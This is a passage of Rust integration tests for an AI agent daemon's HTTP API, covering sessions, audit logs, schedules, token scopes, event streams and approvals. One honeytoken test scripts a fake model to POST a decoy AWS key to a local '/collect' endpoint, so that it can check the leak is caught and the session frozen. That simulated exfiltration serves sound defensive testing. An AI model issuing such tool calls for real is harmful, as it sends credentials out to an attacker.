    // Listed newest first, cut by ?limit=, readable with a read token.
    let (code, list) = call(&daemon, "GET", "/v1/sessions", READ_TOKEN, "");
    assert_eq!(code, 200, "{list}");
    let ids: Vec<&str> = list["sessions"]
        .as_array()
        .map(|a| a.iter().filter_map(|s| s["id"].as_str()).collect())
        .unwrap_or_default();
    assert_eq!(ids, [other.as_str(), "api-first"], "{list}");
    let (code, list) = call(&daemon, "GET", "/v1/sessions?limit=1", READ_TOKEN, "");
    assert_eq!(code, 200, "{list}");
    assert_eq!(list["sessions"].as_array().map(Vec::len), Some(1), "{list}");
    assert_eq!(list["sessions"][0]["id"], other.as_str(), "{list}");
    for bad in [
        "/v1/sessions?limit=0",
        "/v1/sessions?limit=x",
        "/v1/sessions?limt=2",
    ] {
        let (code, body) = call(&daemon, "GET", bad, READ_TOKEN, "");
        assert_eq!(code, 400, "{bad}: {body}");
        assert_eq!(body["error"]["kind"], "invalid_arguments", "{body}");
    }

    // One session's entries: the task, the tool call and its result, the answer.
    let (code, one) = call(&daemon, "GET", "/v1/sessions/api-first", READ_TOKEN, "");
    assert_eq!(code, 200, "{one}");
    assert_eq!(one["agent"], "helper", "{one}");
    let entries = one["entries"].as_array().cloned().unwrap_or_default();
    let before = entries.len();
    assert!(
        entries
            .iter()
            .any(|e| e["kind"] == "user"
                && e["content"].to_string().contains("compute six times seven")),
        "{one}"
    );
    assert!(entries.iter().any(|e| e["kind"] == "tool_result"), "{one}");

    // A message posted to it runs a turn there; a read token may not post.
    let message = r#"{"content": "compute it once more"}"#;
    let path = "/v1/sessions/api-first/messages";
    let (code, body) = call(&daemon, "POST", path, READ_TOKEN, message);
    assert_eq!(code, 403, "{body}");
    let (code, reply) = call(&daemon, "POST", path, CHAT_TOKEN, message);
    assert_eq!(code, 200, "{reply}");
    assert_eq!(reply["session"], "api-first", "{reply}");
    assert_eq!(reply["agent"], "helper", "{reply}");
    assert_eq!(reply["outcome"], "ok", "{reply}");
    assert!(
        reply["text"].as_str().is_some_and(|t| t.contains("42")),
        "{reply}"
    );
    let (_, one) = call(&daemon, "GET", "/v1/sessions/api-first", READ_TOKEN, "");
    let after = one["entries"].as_array().map_or(0, Vec::len);
    assert!(after > before, "{before} → {after}: {one}");
    assert!(
        one["entries"].to_string().contains("compute it once more"),
        "{one}"
    );
    let (code, body) = call(
        &daemon,
        "POST",
        path,
        CHAT_TOKEN,
        r#"{"content": "x", "agent": "nobody"}"#,
    );
    assert_eq!(code, 404, "{body}");

    // The audit log filtered by session holds that session's calls and no other's.
    let (code, log) = call(
        &daemon,
        "GET",
        "/v1/audit?session=api-first",
        READ_TOKEN,
        "",
    );
    assert_eq!(code, 200, "{log}");
    let records = log["records"].as_array().cloned().unwrap_or_default();
    assert!(records.iter().any(|r| r["tool"] == "calculate"), "{log}");
    assert!(records.iter().all(|r| r["session"] == "api-first"), "{log}");
    let (_, all) = call(
        &daemon,
        "GET",
        "/v1/audit?since=1h&tool=calculate",
        READ_TOKEN,
        "",
    );
    let all = all["records"].as_array().cloned().unwrap_or_default();
    assert!(
        all.iter().any(|r| r["session"] == other.as_str()),
        "{all:?}"
    );
    let mine = records.iter().filter(|r| r["tool"] == "calculate").count();
    assert!(
        all.len() > mine,
        "the session filter did not narrow: {all:?}"
    );
    let (_, one_rec) = call(&daemon, "GET", "/v1/audit?limit=1", READ_TOKEN, "");
    assert_eq!(
        one_rec["records"].as_array().map(Vec::len),
        Some(1),
        "{one_rec}"
    );
    for bad in [
        "/v1/audit?since=yesterday-ish",
        "/v1/audit?session=-x",
        "/v1/audit?verdict=deny",
    ] {
        let (code, body) = call(&daemon, "GET", bad, READ_TOKEN, "");
        assert_eq!(code, 400, "{bad}: {body}");
    }

    // Bad ids are 400, unknown ones 404, for every session route.
    for (method, path) in [
        ("GET", "/v1/sessions/-x"),
        ("GET", "/v1/sessions/a%24b"),
        ("DELETE", "/v1/sessions/_hidden"),
        ("POST", "/v1/sessions/a%20b/messages"),
    ] {
        let token = if method == "DELETE" {
            ADMIN_TOKEN
        } else {
            CHAT_TOKEN
        };
        let (code, body) = call(&daemon, method, path, token, message);
        assert_eq!(code, 400, "{method} {path}: {body}");
    }
    for (method, path) in [
        ("GET", "/v1/sessions/no-such-session"),
        ("DELETE", "/v1/sessions/no-such-session"),
        ("POST", "/v1/sessions/no-such-session/messages"),
    ] {
        let token = if method == "DELETE" {
            ADMIN_TOKEN
        } else {
            CHAT_TOKEN
        };
        let (code, body) = call(&daemon, method, path, token, message);
        assert_eq!(code, 404, "{method} {path}: {body}");
        assert_eq!(body["error"]["kind"], "not_found", "{body}");
    }

    // Deleting takes `admin`: neither a read nor a chat token may.
    for token in [READ_TOKEN, CHAT_TOKEN] {
        let (code, body) = call(&daemon, "DELETE", "/v1/sessions/api-first", token, "");
        assert_eq!(code, 403, "{body}");
    }
    let (code, _) = call(&daemon, "GET", "/v1/sessions/api-first", READ_TOKEN, "");
    assert_eq!(code, 200, "a refused delete deleted");
    let (code, body) = call(&daemon, "DELETE", "/v1/sessions/api-first", ADMIN_TOKEN, "");
    assert_eq!(code, 200, "{body}");
    assert!(
        body["entries_deleted"]
            .as_u64()
            .is_some_and(|n| n >= after as u64),
        "{body}"
    );
    let (code, body) = call(&daemon, "GET", "/v1/sessions/api-first", READ_TOKEN, "");
    assert_eq!(code, 404, "{body}");
    // The audit log keeps the deleted session's calls.
    let (_, log) = call(
        &daemon,
        "GET",
        "/v1/audit?session=api-first",
        READ_TOKEN,
        "",
    );
    assert!(
        !log["records"].as_array().is_none_or(Vec::is_empty),
        "{log}"
    );

    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    assert!(!log.contains(ADMIN_TOKEN), "a token was logged");
}

#[test]
fn schedules_are_listed_switched_and_removed_over_the_api_and_openapi_lists_every_route() {
    let Some(llm) = FakeLlm::start(RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let admin = format!(
        "    - {{name: admin, sha256: {}, scopes: [read, admin]}}\n",
        sha256_hex(ADMIN_TOKEN)
    );
    let config = config(&sb, &llm, port, &admin);
    let mut daemon = Daemon::start(&sb, &config, port);
    let added = run(sb.tackle(
        &config,
        &[
            "schedule",
            "add",
            "nightly",
            "--cron",
            "0 0 3 * * *",
            "--task",
            "tidy up",
            "--agent",
            "helper",
        ],
    ));
    assert_eq!(added.code, 0, "{added}");

    let (code, list) = call(&daemon, "GET", "/v1/schedules", READ_TOKEN, "");
    assert_eq!(code, 200, "{list}");
    let first = &list["schedules"][0];
    assert_eq!(first["id"], "nightly", "{list}");
    assert_eq!(first["agent"], "helper", "{list}");
    assert_eq!(first["enabled"], true, "{list}");
    let next = first["next_fire"].as_str().unwrap_or_default();
    assert!(
        next.len() >= 20 && next.ends_with('Z'),
        "not RFC 3339: {list}"
    );
    let (_, none) = call(
        &daemon,
        "GET",
        "/v1/schedules?agent=default",
        READ_TOKEN,
        "",
    );
    assert_eq!(
        none["schedules"].as_array().map(Vec::len),
        Some(0),
        "{none}"
    );

    // Switching and removing take `admin`.
    for token in [READ_TOKEN, CHAT_TOKEN] {
        let (code, body) = call(&daemon, "POST", "/v1/schedules/nightly/disable", token, "");
        assert_eq!(code, 403, "{body}");
        let (code, body) = call(&daemon, "DELETE", "/v1/schedules/nightly", token, "");
        assert_eq!(code, 403, "{body}");
    }
    let (code, s) = call(
        &daemon,
        "POST",
        "/v1/schedules/nightly/disable",
        ADMIN_TOKEN,
        "",
    );
    assert_eq!(code, 200, "{s}");
    assert_eq!(s["enabled"], false, "{s}");
    let shown = run(sb.tackle(&config, &["schedule", "list", "--json"]));
    assert!(shown.stdout.contains("\"enabled\": false"), "{shown}");
    let (code, s) = call(
        &daemon,
        "POST",
        "/v1/schedules/nightly/enable",
        ADMIN_TOKEN,
        "",
    );
    assert_eq!(code, 200, "{s}");
    assert_eq!(s["enabled"], true, "{s}");
    for (path, want) in [
        ("/v1/schedules/-x/enable", 400),
        ("/v1/schedules/nosuch/enable", 404),
        ("/v1/schedules/nightly/enable?agent=default", 404),
        ("/v1/schedules/nightly/enable?agent=-x", 400),
    ] {
        let (code, body) = call(&daemon, "POST", path, ADMIN_TOKEN, "");
        assert_eq!(code, want, "{path}: {body}");
    }
    // Its history: none yet, and only for the agent that has it.
    let (code, fires) = call(
        &daemon,
        "GET",
        "/v1/schedules/nightly/fires?limit=5",
        READ_TOKEN,
        "",
    );
    assert_eq!(code, 200, "{fires}");
    assert_eq!(fires["schedule"]["id"], "nightly", "{fires}");
    assert_eq!(fires["fires"].as_array().map(Vec::len), Some(0), "{fires}");
    let (code, body) = call(
        &daemon,
        "GET",
        "/v1/schedules/nightly/fires?agent=default",
        READ_TOKEN,
        "",
    );
    assert_eq!(code, 404, "{body}");
    let (code, body) = call(&daemon, "DELETE", "/v1/schedules/nightly", ADMIN_TOKEN, "");
    assert_eq!(code, 200, "{body}");
    let (_, list) = call(&daemon, "GET", "/v1/schedules", READ_TOKEN, "");
    assert_eq!(
        list["schedules"].as_array().map(Vec::len),
        Some(0),
        "{list}"
    );
    let (code, body) = call(&daemon, "DELETE", "/v1/schedules/nightly", ADMIN_TOKEN, "");
    assert_eq!(code, 404, "{body}");

    // The document lists every route with its scope.
    let (code, doc) = daemon.get("/openapi.json", None);
    assert_eq!(code, 200);
    let doc: Value = serde_json::from_str(&doc).unwrap_or_default();
    for (path, method, scope) in [
        ("/v1/sessions", "get", "read"),
        ("/v1/sessions/{id}", "get", "read"),
        ("/v1/sessions/{id}", "delete", "admin"),
        ("/v1/sessions/{id}/messages", "post", "chat"),
        ("/v1/audit", "get", "read"),
        ("/v1/schedules", "get", "read"),
        ("/v1/schedules/{id}/enable", "post", "admin"),
        ("/v1/schedules/{id}/disable", "post", "admin"),
        ("/v1/schedules/{id}", "delete", "admin"),
    ] {
        assert_eq!(
            doc["paths"][path][method]["x-tackle-scope"], scope,
            "{method} {path}"
        );
    }
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
}

/// Reads the server-sent events of `GET path` until an `event: done` arrives (or 30 s pass);
/// each event as (kind, data).
fn events_until_done(port: u16, path: &str, token: &str) -> Vec<(String, Value)> {
    let Ok(mut s) = TcpStream::connect(("127.0.0.1", port)) else {
        return Vec::new();
    };
    let _ = s.set_read_timeout(Some(Duration::from_secs(30)));
    let _ = write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAuthorization: Bearer {token}\r\nAccept: text/event-stream\r\n\r\n"
    );
    let mut reader = std::io::BufReader::new(s);
    let mut events = Vec::new();
    let mut kind = String::new();
    let mut line = String::new();
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        line.clear();
        if std::io::BufRead::read_line(&mut reader, &mut line).unwrap_or(0) == 0 {
            break;
        }
        let l = line.trim_end();
        if let Some(k) = l.strip_prefix("event: ") {
            kind = k.to_string();
        } else if let Some(d) = l.strip_prefix("data: ") {
            let data: Value = serde_json::from_str(d).unwrap_or(Value::Null);
            let done = kind == "done";
            events.push((std::mem::take(&mut kind), data));
            if done {
                break;
            }
        }
    }
    events
}

#[test]
fn a_session_made_empty_is_watched_live_while_a_message_runs_in_it() {
    let Some(llm) = FakeLlm::start(RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = config(&sb, &llm, port, "");
    let mut daemon = Daemon::start(&sb, &config, port);
    // Creating takes `chat`.
    let (code, body) = call(&daemon, "POST", "/v1/sessions", READ_TOKEN, "{}");
    assert_eq!(code, 403, "{body}");
    for (bad, want) in [
        ("{\"agent\": \"nosuch\"}", 404),
        ("{\"agent\": 3}", 422),
        ("{\"agnt\": \"helper\"}", 422),
    ] {
        let (code, body) = call(&daemon, "POST", "/v1/sessions", CHAT_TOKEN, bad);
        assert_eq!(code, want, "{bad}: {body}");
    }
    let (code, made) = call(
        &daemon,
        "POST",
        "/v1/sessions",
        CHAT_TOKEN,
        "{\"agent\": \"tackle:helper\"}",
    );
    assert_eq!(code, 200, "{made}");
    assert_eq!(made["agent"], "helper", "{made}");
    assert_eq!(made["messages"], 0, "{made}");
    let id = made["id"].as_str().unwrap_or_default().to_string();
    let (code, shown) = call(
        &daemon,
        "GET",
        &format!("/v1/sessions/{id}"),
        READ_TOKEN,
        "",
    );
    assert_eq!(code, 200, "{shown}");

    let path = format!("/v1/sessions/{id}/events");
    let (events, reply) = std::thread::scope(|scope| {
        let watcher = scope.spawn(|| events_until_done(port, &path, READ_TOKEN));
        // Another session's turn must not show up in this stream.
        let other = scope.spawn(|| complete(&daemon, "tackle:default", "say hello elsewhere"));
        std::thread::sleep(Duration::from_millis(300));
        let reply = call(
            &daemon,
            "POST",
            &format!("/v1/sessions/{id}/messages"),
            CHAT_TOKEN,
            "{\"content\": \"compute it\"}",
        );
        let _ = other.join();
        (watcher.join().unwrap_or_default(), reply)
    });
    assert_eq!(reply.0, 200, "{}", reply.1);
    assert_eq!(reply.1["text"], "The answer is 42.", "{}", reply.1);
    let kinds: Vec<&str> = events.iter().map(|(k, _)| k.as_str()).collect();
    assert!(
        events.iter().all(|(_, d)| d["session"] == id.as_str()),
        "{events:?}"
    );
    let at = |k: &str| kinds.iter().position(|x| *x == k);
    let (Some(start), Some(call_at), Some(end), Some(done)) = (
        at("turn_started"),
        at("tool_call_started"),
        at("tool_call_finished"),
        at("done"),
    ) else {
        panic!("missing events: {kinds:?}");
    };
    assert!(start < call_at && call_at < end && end < done, "{kinds:?}");
    let (_, started) = &events[call_at];
    assert_eq!(started["name"], "calculate", "{started}");
    assert_eq!(started["agent"], "helper", "{started}");
    let (_, finished) = &events[end];
    assert_eq!(finished["ok"], true, "{finished}");
    assert_eq!(events[done].1["text"], "The answer is 42.", "{events:?}");
    assert_eq!(events[start].1["content"], "compute it", "{events:?}");

    // The all-sessions stream refuses a bad filter; a stream of an unknown session is 404.
    let (code, _) = daemon.get("/v1/events?session=-x", Some(READ_TOKEN));
    assert_eq!(code, 400);
    let (code, _) = daemon.get(
        "/v1/sessions/20200101-000000-deadbeef/events",
        Some(READ_TOKEN),
    );
    assert_eq!(code, 404);
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
}

#[test]
fn schedules_are_added_over_the_api_with_admin_and_checked_like_the_cli() {
    let Some(llm) = FakeLlm::start(RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let admin = format!(
        "    - {{name: admin, sha256: {}, scopes: [read, admin]}}\n",
        sha256_hex(ADMIN_TOKEN)
    );
    let config = config(&sb, &llm, port, &admin);
    let mut daemon = Daemon::start(&sb, &config, port);
    let nightly = "{\"id\": \"nightly\", \"task\": \"tidy up\", \"agent\": \"helper\", \"cron\": \"0 0 3 * * *\", \"max_fires\": 5}";
    for token in [READ_TOKEN, CHAT_TOKEN] {
        let (code, body) = call(&daemon, "POST", "/v1/schedules", token, nightly);
        assert_eq!(code, 403, "{body}");
    }
    let (code, s) = call(&daemon, "POST", "/v1/schedules", ADMIN_TOKEN, nightly);
    assert_eq!(code, 200, "{s}");
    assert_eq!(
        (&s["id"], &s["agent"], &s["kind"], &s["max_fires"]),
        (
            &Value::from("nightly"),
            &Value::from("helper"),
            &Value::from("cron"),
            &Value::from(5)
        ),
        "{s}"
    );
    let once = "{\"id\": \"later\", \"task\": \"check in\", \"at\": \"2099-01-02T03:04:05Z\"}";
    let (code, s) = call(&daemon, "POST", "/v1/schedules", ADMIN_TOKEN, once);
    assert_eq!(code, 200, "{s}");
    assert_eq!(s["next_fire"], "2099-01-02T03:04:05Z", "{s}");
    assert_eq!(s["agent"], "default", "{s}");
    for (bad, want) in [
        (nightly, 400), // the id is taken
        ("{\"id\": \"x\", \"task\": \"t\"}", 400),
        ("{\"id\": \"x\", \"task\": \"t\", \"cron\": \"0 * * * * *\", \"at\": \"2099-01-01T00:00:00Z\"}", 400),
        ("{\"id\": \"x\", \"task\": \"t\", \"cron\": \"not cron\"}", 400),
        ("{\"id\": \"x\", \"task\": \"t\", \"at\": \"tomorrow\"}", 400),
        ("{\"id\": \"x\", \"task\": \"t\", \"at\": \"2099-01-01T00:00:00Z\", \"max_fires\": 2}", 400),
        ("{\"id\": \"-x\", \"task\": \"t\", \"cron\": \"0 * * * * *\"}", 400),
        ("{\"id\": \"x\", \"task\": \"t\", \"cron\": \"0 * * * * *\", \"agent\": \"nosuch\"}", 404),
        ("{\"id\": \"x\", \"task\": \"t\", \"cron\": \"0 * * * * *\", \"owner\": \"helper\"}", 422),
    ] {
        let (code, body) = call(&daemon, "POST", "/v1/schedules", ADMIN_TOKEN, bad);
        assert_eq!(code, want, "{bad}: {body}");
    }
    let shown = run(sb.tackle(&config, &["schedule", "list", "--json"]));
    assert!(
        shown.stdout.contains("nightly") && shown.stdout.contains("later"),
        "{shown}"
    );
    assert!(!shown.stdout.contains("\"x\""), "{shown}");

    // Each route reads only the query parameters its row lists, and the document says which.
    for path in [
        "/v1/models?x=1",
        "/v1/schedules?agnt=helper",
        "/v1/sessions?limit=0",
    ] {
        let (code, body) = daemon.get(path, Some(READ_TOKEN));
        assert_eq!(code, 400, "{path}: {body}");
    }
    let (_, doc) = daemon.get("/openapi.json", None);
    let doc: Value = serde_json::from_str(&doc).unwrap_or_default();
    let names = |path: &str, method: &str| -> Vec<String> {
        doc["paths"][path][method]["parameters"]
            .as_array()
            .into_iter()
            .flatten()
            .map(|p| {
                format!(
                    "{}:{}",
                    p["in"].as_str().unwrap_or(""),
                    p["name"].as_str().unwrap_or("")
                )
            })
            .collect()
    };
    assert_eq!(
        names("/v1/schedules/{id}", "delete"),
        ["path:id", "query:agent"]
    );
    assert_eq!(
        names("/v1/audit", "get"),
        ["query:session", "query:tool", "query:since", "query:limit"]
    );
    assert_eq!(
        doc["paths"]["/v1/schedules"]["post"]["x-tackle-scope"],
        "admin"
    );
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
}

#[test]
fn daemon_http_serves_the_api_and_console_without_a_gateway_section() {
    let Some(llm) = FakeLlm::start(RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = sb.config(&llm.backend_yaml("openai", true));
    let remote = run(sb.tackle(&config, &["daemon", "--http", &format!("0.0.0.0:{port}")]));
    assert_eq!(remote.code, 2, "{remote}");
    assert!(remote.stderr.contains("loopback"), "{remote}");
    let mut child = sb
        .tackle(&config, &["daemon", "--http", &format!("127.0.0.1:{port}")])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn tackle daemon");
    let stderr = drain(child.stderr.take());
    let mut daemon = Daemon {
        child: Some(child),
        stderr: Some(stderr),
        port,
    };
    let deadline = Instant::now() + Duration::from_secs(60);
    while daemon.get("/openapi.json", None).0 != 200 && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(100));
    }
    let (code, page) = daemon.get("/", None);
    assert_eq!(code, 200, "{page}");
    assert!(page.contains("<title>Tackle console</title>"), "{page}");
    // No tokens configured: every API route is refused.
    let (code, body) = daemon.get("/v1/models", None);
    assert_eq!(code, 401, "{body}");
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    assert!(log.contains("gateway.tokens is empty"), "{log}");
}

#[test]
fn a_model_backend_that_fails_is_a_bad_gateway_not_a_server_error() {
    let sb = Sandbox::new();
    let port = free_port();
    // A backend on a port where nothing listens.
    let dead = free_port();
    let backend = format!(
        "backends:\n  - name: fake\n    type: openai\n    api_base: http://127.0.0.1:{dead}/v1\n    api_key: test-key-not-secret\n    stream: false\n    models:\n      - name: fake-model\n"
    );
    let config = config_with(&sb, &backend, port, "");
    let mut daemon = Daemon::start(&sb, &config, port);
    let (code, body) = complete(&daemon, "tackle:default", "hello");
    assert_eq!(code, 502, "{body}");
    assert!(body.contains("\"kind\":\"failed\""), "{body}");
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
}

#[test]
fn an_approval_whose_waiter_was_killed_is_closed_not_left_answerable() {
    let Some(llm) = FakeLlm::start(MARKER_RULES) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = approver_config(&sb, &llm, port);
    let daemon = Daemon::start(&sb, &config, port);
    let pid = daemon.child.as_ref().map(|c| c.id().to_string());
    let marker = sb.workspace().join("MARKER");
    let id = std::thread::scope(|scope| {
        let _turn = scope.spawn(|| complete(&daemon, "tackle:helper", "make the marker"));
        let (id, _) = pending(&daemon);
        let _ = Command::new("kill")
            .args(["-9", pid.as_deref().unwrap_or("0")])
            .status();
        id
    });
    drop(daemon);
    // Another process sees the waiter gone: the entry is closed with why, and an answer now
    // is told so instead of "allowed" for a call that no longer waits.
    let listed = run(sb.tackle(&config, &["approvals", "list", "--all", "--json"]));
    assert_eq!(listed.code, 0, "{listed}");
    let all: Value = serde_json::from_str(&listed.stdout).unwrap_or_default();
    let entry = all
        .as_array()
        .into_iter()
        .flatten()
        .find(|a| a["id"] == id.as_str())
        .unwrap_or_else(|| panic!("{id} not listed: {listed}"));
    assert_eq!(entry["status"], "cancelled", "{entry}");
    assert!(
        entry["answered_by"]
            .as_str()
            .is_some_and(|w| w.contains("waiter ended")),
        "{entry}"
    );
    let late = run(sb.tackle(&config, &["approvals", "allow", &id]));
    assert_ne!(late.code, 0, "{late}");
    assert!(late.stderr.contains("already"), "{late}");
    assert!(!marker.exists());
}

#[test]
fn a_failing_chat_channel_is_shown_as_failing_without_its_token() {
    let Some(llm) = FakeLlm::start("rules: []\n") else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    // A Telegram API that answers every call with a server error.
    let down = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let down_port = down.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for stream in down.incoming().flatten() {
            let mut stream = stream;
            let mut buf = [0u8; 4096];
            let _ = stream.read(&mut buf);
            let _ = stream.write_all(
                b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            );
        }
    });
    let secret = "777:channel-token-that-must-not-show";
    let config = config(
        &sb,
        &llm,
        port,
        &format!(
            "channels:\n  bot:\n    type: telegram\n    bot_token: \"{secret}\"\n    api_base: http://127.0.0.1:{down_port}\n    inbound:\n      allowed_senders: [\"1\"]\n      poll_timeout_secs: 1\n"
        ),
    );
    let mut daemon = Daemon::start(&sb, &config, port);
    let deadline = Instant::now() + Duration::from_secs(60);
    let channel = loop {
        let (status, body) = daemon.get("/v1/channels", Some(READ_TOKEN));
        assert_eq!(status, 200, "{body}");
        assert!(!body.contains(secret), "the token is in the answer: {body}");
        let list: Value = serde_json::from_str(&body).expect("json");
        let bot = list["channels"]
            .as_array()
            .and_then(|c| c.iter().find(|c| c["name"] == "bot"))
            .cloned()
            .unwrap_or_else(|| panic!("the channel is not listed: {list:#}"));
        if bot["failing"] == true || Instant::now() > deadline {
            break bot;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert_eq!(channel["failing"], true, "{channel:#}");
    assert_eq!(channel["kind"], "telegram", "{channel:#}");
    assert!(
        channel["last_error"]
            .as_str()
            .unwrap_or_default()
            .contains("502"),
        "{channel:#}"
    );
    // A token without a read scope is refused.
    assert_eq!(daemon.get("/v1/channels", None).0, 401);
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    assert!(!log.contains(secret), "{log}");
}

#[test]
fn a_decoy_caught_leaving_is_shown_over_the_api_by_name_never_by_value() {
    let sb = Sandbox::new();
    let port = free_port();
    let security = "security:\n  honeytokens: true\n";
    // A one-off call makes this state directory's decoys; the model is scripted with one.
    let made = sb.config(security);
    let r = run(sb.tackle(
        &made,
        &["tools", "call", "calculate", r#"{"expression": "1+1"}"#],
    ));
    assert_eq!(r.code, 0, "{r}");
    let file = sb.state().join("honeytokens/decoys.json");
    let text = std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{e}\n{r}"));
    let decoys: Value = serde_json::from_str(&text).expect("decoys.json");
    let values: Vec<String> = [
        "aws_access_key_id",
        "aws_secret_access_key",
        "github_token",
        "openai_api_key",
    ]
    .iter()
    .map(|k| decoys[k].as_str().unwrap_or_default().to_string())
    .collect();
    assert!(values.iter().all(|v| v.len() >= 16), "{decoys}");
    let rules = format!(
        "rules:\n  - name: refused\n    when: {{tool_result_contains: \"refused\"}}\n    respond: {{content: \"It was refused.\"}}\n  - name: leak\n    when: {{messages_contain: \"send the key\"}}\n    respond:\n      tool_calls:\n        - {{name: http_request, arguments: {{method: POST, url: \"http://127.0.0.1:9/collect\", body: \"id={}\"}}}}\n",
        values[0]
    );
    let Some(llm) = FakeLlm::start(&rules) else {
        return;
    };
    let config = config(&sb, &llm, port, security);
    let mut daemon = Daemon::start(&sb, &config, port);

    let (status, body) = daemon.get("/v1/security", Some(READ_TOKEN));
    assert_eq!(status, 200, "{body}");
    let clean: Value = serde_json::from_str(&body).expect("json");
    assert_eq!(clean["honeytokens"], true, "{clean:#}");
    assert_eq!(clean["tripped"], 0, "{clean:#}");
    assert!(clean["last_trip"].is_null(), "{clean:#}");
    assert_eq!(clean["frozen_sessions"], serde_json::json!([]), "{clean:#}");

    let (status, body) = complete(&daemon, "tackle:default", "send the key");
    assert_eq!(status, 200, "{body}");
    let reply: Value = serde_json::from_str(&body).expect("json");
    let session = reply["tackle"]["session"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(!session.is_empty(), "{reply:#}");
    assert_eq!(reply["tackle"]["tool_calls"][0]["ok"], false, "{reply:#}");

    let (status, body) = daemon.get("/v1/security", Some(READ_TOKEN));
    assert_eq!(status, 200, "{body}");
    for value in &values {
        assert!(
            !body.contains(value.as_str()),
            "a decoy's value is in the answer: {body}"
        );
    }
    let seen: Value = serde_json::from_str(&body).expect("json");
    assert_eq!(seen["tripped"], 1, "{seen:#}");
    let trip = &seen["last_trip"];
    assert_eq!(trip["tool"], "http_request", "{seen:#}");
    assert_eq!(trip["token"], "AWS access key id", "{seen:#}");
    assert_eq!(trip["session"], session.as_str(), "{seen:#}");
    assert!(
        trip["at"].as_str().is_some_and(|a| !a.is_empty()),
        "{seen:#}"
    );
    assert_eq!(
        seen["frozen_sessions"],
        serde_json::json!([session]),
        "{seen:#}"
    );

    // Read scope, like the rest of what the console shows.
    assert_eq!(daemon.get("/v1/security", None).0, 401);
    let (status, doc) = daemon.get("/openapi.json", None);
    assert_eq!(status, 200);
    assert!(doc.contains("/v1/security"), "{doc}");
    let (code, log) = daemon.stop();
    assert_eq!(code, Some(0), "{log}");
    for value in &values {
        assert!(
            !log.contains(value.as_str()),
            "a decoy's value is logged: {log}"
        );
    }
}

/// `X-Tackle-Disabled-Extensions` sets the extensions switched off in the session: their tools
/// are not offered, the setting is kept for the session's later requests, an empty header turns
/// them back on, and a name with no tools is refused before anything runs.
#[test]
fn a_session_s_disabled_extensions_are_set_over_the_api_and_kept() {
    let rules = concat!(
        "rules:\n",
        "  - name: offered\n    when: {tools_include: web_fetch}\n    respond: {content: \"WEB-OFFERED\"}\n",
        "  - name: hidden\n    when: {}\n    respond: {content: \"WEB-HIDDEN\"}\n",
    );
    let Some(llm) = FakeLlm::start(rules) else {
        return;
    };
    let sb = Sandbox::new();
    let port = free_port();
    let config = config(&sb, &llm, port, "");
    let daemon = Daemon::start(&sb, &config, port);
    let ask = |headers: &str| {
        daemon.post(
            "/v1/chat/completions",
            &format!("Authorization: Bearer {CHAT_TOKEN}\r\n{headers}"),
            r#"{"model": "tackle:default", "messages": [{"role": "user", "content": "which tools"}]}"#,
        )
    };
    let (code, body) = ask("X-Tackle-Session: ext-api-1\r\nX-Tackle-Disabled-Extensions: web\r\n");
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("WEB-HIDDEN"), "{body}");
    // Kept: the next request of the session, without the header, still has it off.
    let (code, body) = ask("X-Tackle-Session: ext-api-1\r\n");
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("WEB-HIDDEN"), "{body}");
    // Another session is untouched.
    let (code, body) = ask("X-Tackle-Session: ext-api-2\r\n");
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("WEB-OFFERED"), "{body}");
    // Empty: all back on.
    let (code, body) = ask("X-Tackle-Session: ext-api-1\r\nX-Tackle-Disabled-Extensions: \r\n");
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("WEB-OFFERED"), "{body}");
    let (code, body) =
        ask("X-Tackle-Session: ext-api-1\r\nX-Tackle-Disabled-Extensions: web, nosuch\r\n");
    assert_eq!(code, 400, "{body}");
    assert!(body.contains("nosuch"), "{body}");
}
